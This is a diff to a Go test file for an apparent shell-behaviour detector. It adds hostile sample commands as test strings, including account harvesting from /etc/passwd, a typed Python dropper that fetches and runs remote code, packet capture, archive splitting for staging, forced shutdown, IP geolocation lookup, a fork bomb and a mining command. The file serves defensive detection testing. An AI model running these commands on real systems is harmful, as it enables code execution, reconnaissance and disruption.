@@ -107,6 +107,15 @@ func TestBehaviours(t *testing.T) {
 		{"./x -o stratum+tcp://pool.example:3333", &mining},
 		{":(){ :|:& };:", &burned},
 		{"python3 /tmp/holiday.jpg", &dataRun},
+		{"getent passwd > /dev/shm/u", &accountsKept},
+		{"awk -F: '{print $1}' /etc/passwd >> /var/tmp/n", &accountsKept},
+		{"echo 'cd /opt' > /tmp/q; echo './run' >> /tmp/q; sh /tmp/q", &typedTemp},
+		{"printf 'import os' > ~/n; printf 'from urllib import request as r' >> ~/n; printf 'os.popen(r.urlopen(X).read())' >> ~/n; python3 ~/n", &typedDropper},
+		{"tshark -i eth0; tcpdump -ni eth0", &captureTried},
+		{"split -n 20 /dev/shm/all.tgz /dev/shm/p", &partsStaged},
+		{"if true; then /sbin/poweroff -f; fi", &stoppedByScript},
+		{"shutdown -P now", &stoppedByScript},
+		{"wget -qO- http://ip-api.com/json", &placeAsked},
 	} {
 		if got := raised(c.script, true); got[c.want.Type] != c.want.Severity {
 			t.Errorf("%s\nraises %v, not %s", c.script, got, c.want.Type)
@@ -147,6 +156,10 @@ func TestBehaviours_Benign(t *testing.T) {
 		"python3 -m venv .venv; .venv/bin/pip install requests; .venv/bin/python -c 'import socket; print(socket.gethostname())'",
 		"timeout 5 bash -c '</dev/tcp/db.example/5432' && echo up; nc -zv db 5432",
 		"rsync -a /srv/ backup:/srv/; gzip -9 access.log.1; truncate -s 0 app.log; echo > /dev/null",
+		"getent passwd | cut -d: -f1 > users.txt; T=$(mktemp); getent group > $T; diff $T groups.txt; last > /root/signins",
+		"echo '[Unit]' > app.conf; echo 'x=1' >> app.conf; cat app.conf; echo 'echo hi' > run.sh; sh run.sh; T=$(mktemp); echo id > $T; echo date >> $T; sh $T",
+		"cat > fetch.py <<'X'\nimport requests, subprocess\nsubprocess.run(['ls'])\nX\npython3 fetch.py",
+		"tcpdump -c 100 -ni eth0 port 53; split -b 100M /srv/backup/all.tgz /srv/backup/all.tgz.part; shutdown -r +10 'patches'; curl -s ifconfig.me; curl -s https://ipinfo.io/ip",
 	} {
 		for kind, s := range raised(script, true) {
 			if s >= Medium {
